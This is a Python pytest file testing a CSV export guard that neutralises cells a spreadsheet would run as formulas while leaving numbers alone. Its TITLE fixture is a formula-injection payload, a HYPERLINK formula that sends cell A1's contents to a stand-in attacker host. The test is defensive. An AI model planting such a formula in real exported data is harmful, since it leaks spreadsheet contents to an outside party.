"""CSV cells a spreadsheet would run as formulas are neutralised; numbers are not."""

from __future__ import annotations

import csv
import io

import pytest

from tierline_metrics.reports.api import to_csv
from tierline_shared.csvsafe import safe_cell

TITLE = '=HYPERLINK("https://attacker.example/?d="&A1,"VPN down")'


@pytest.mark.parametrize("text", [TITLE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_formula_starts_become_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["VPN down", "", "a=b", -3, 2.5, None, True])
def test_other_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_a_report_row_titled_as_a_formula_is_read_back_as_text() -> None:
    text = to_csv([{"title": TITLE, "figures": {"backlog": -1, "note": "@admin"}}])
    (row,) = csv.DictReader(io.StringIO(text))
    assert row == {"title": "'" + TITLE, "figures.backlog": "-1", "figures.note": "'@admin"}
